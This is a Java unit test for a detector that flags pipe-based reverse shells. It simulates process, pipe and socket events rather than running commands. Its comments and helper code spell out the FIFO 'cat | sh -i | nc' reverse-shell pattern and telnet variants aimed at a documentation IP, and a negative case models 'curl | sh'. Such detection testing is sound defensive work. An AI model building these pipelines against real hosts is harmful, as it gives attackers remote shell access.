package io.hivesec.detectors.shell;

import static io.hivesec.testkit.HiveAssertions.assertThatFindings;
import static org.assertj.core.api.Assertions.assertThat;

import io.hivesec.alert.Finding;
import io.hivesec.event.Event;
import io.hivesec.spi.Detector;
import io.hivesec.testkit.Detecting;
import io.hivesec.testkit.DetectorContract;
import io.hivesec.testkit.Scene;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

final class PipeRelayShellDetectorTest implements DetectorContract {
    private static final String OUTSIDE = "198.51.100.7";
    private final Scene scene = Scene.in("web");

    @Override
    public Detector detector() {
        return new PipeRelayShellDetector();
    }

    @Override
    public List<Event> incident() {
        Scene incident = Scene.in("incident");
        fifo(incident, "/tmp/f", "/tmp/f");
        return incident.events();
    }

    /** {@code cat READ | sh -i | nc host port > WRITTEN}. */
    private static Scene.Actor fifo(Scene scene, String read, String written) {
        Scene.Actor line = scene.starts("/bin/sh", "sh", "-c", "pipeline").pipes(3, 4);
        line.forks().duplicates(4, 1).executes("/bin/cat", "cat", read).opens(read);
        line.pipes(5, 6);
        line.forks().duplicates(3, 0).duplicates(6, 1).executes("/bin/sh", "sh", "-i");
        Scene.Actor nc = line.forks().duplicates(5, 0).writes(written).executes("/bin/nc", "nc", OUTSIDE, "4444");
        return nc.connects(3, OUTSIDE, 4444);
    }

    private List<Finding> found() {
        return Detecting.findings(detector(), scene);
    }

    @Test
    void inspect_fifoClosesTheLoop_findsItAboutTheConnectingProcess() {
        fifo(scene, "/tmp/f", "/tmp/f");
        assertThatFindings(found()).show("reverse-shell.pipe-relay", "mechanism", "FIFO /tmp/f");
        assertThat(found().get(0).subject().process().name()).isEqualTo("nc");
    }

    @Test
    void inspect_twoNetworkPrograms_findsIt() {
        Scene.Actor line = scene.starts("/bin/sh", "sh", "-c", "pipeline").pipes(3, 4);
        line.forks()
                .duplicates(4, 1)
                .executes("/usr/bin/telnet", "telnet", OUTSIDE, "1")
                .connects(7, OUTSIDE, 1);
        line.pipes(5, 6);
        line.forks().duplicates(3, 0).duplicates(6, 1).executes("/bin/bash", "bash");
        line.forks()
                .duplicates(5, 0)
                .executes("/usr/bin/telnet", "telnet", OUTSIDE, "2")
                .connects(7, OUTSIDE, 2);
        assertThatFindings(found()).show("reverse-shell.pipe-relay", "mechanism", "pipes between two network programs");
    }

    @Test
    void inspect_readerOfTheSocketBeforeALoop_findsIt() {
        Scene.Actor bash = scene.starts("/bin/bash", "bash", "-c", "loop")
                .connects(5, OUTSIDE, 9)
                .pipes(3, 4);
        bash.forks().duplicates(5, 0).duplicates(4, 1).executes("/bin/cat", "cat");
        bash.forks().duplicates(3, 0).duplicates(5, 1);
        assertThatFindings(found()).show("reverse-shell.pipe-relay", "mechanism", "a pipe from a reader of the socket");
    }

    @Test
    void inspect_readAndWrittenFilesDiffer_isQuiet() {
        fifo(scene, "/tmp/in", "/tmp/out");
        assertThatFindings(found()).areNone();
    }

    @Test
    void inspect_downloadIntoShell_isQuiet() {
        Scene.Actor line =
                scene.starts("/bin/sh", "sh", "-c", "curl https://x | sh").pipes(3, 4);
        line.forks()
                .duplicates(4, 1)
                .executes("/usr/bin/curl", "curl", "https://x")
                .connects(5, OUTSIDE, 443);
        line.forks().duplicates(3, 0).executes("/bin/sh", "sh");
        assertThatFindings(found()).areNone();
    }

    @Test
    void inspect_outputSentByNetcat_isQuiet() {
        Scene.Actor line =
                scene.starts("/bin/sh", "sh", "-c", "sh metrics.sh | nc h 2003").pipes(3, 4);
        line.forks().duplicates(4, 1).executes("/bin/sh", "sh", "metrics.sh");
        line.forks().duplicates(3, 0).executes("/bin/nc", "nc", OUTSIDE, "2003").connects(5, OUTSIDE, 2003);
        assertThatFindings(found()).areNone();
    }

    @ParameterizedTest
    @CsvSource({"/usr/bin/xdg-settings, false", "-i, true"})
    void inspect_shellOfABrowserThatIsDrivenByPipes_isFoundUnlessItRunsAnInstalledScript(
            String argument, boolean isFound) {
        Scene.Actor node = scene.starts("/usr/bin/node", "node", "render.js").pipes(20, 21);
        Scene.Actor browser =
                node.forks().duplicates(20, 0).duplicates(21, 1).executes("/usr/bin/chromium", "chromium");
        browser.connects(30, OUTSIDE, 443);
        browser.starts("/bin/sh", "sh", argument);
        if (isFound) assertThatFindings(found()).show("reverse-shell.pipe-relay");
        else assertThatFindings(found()).areNone();
    }
}
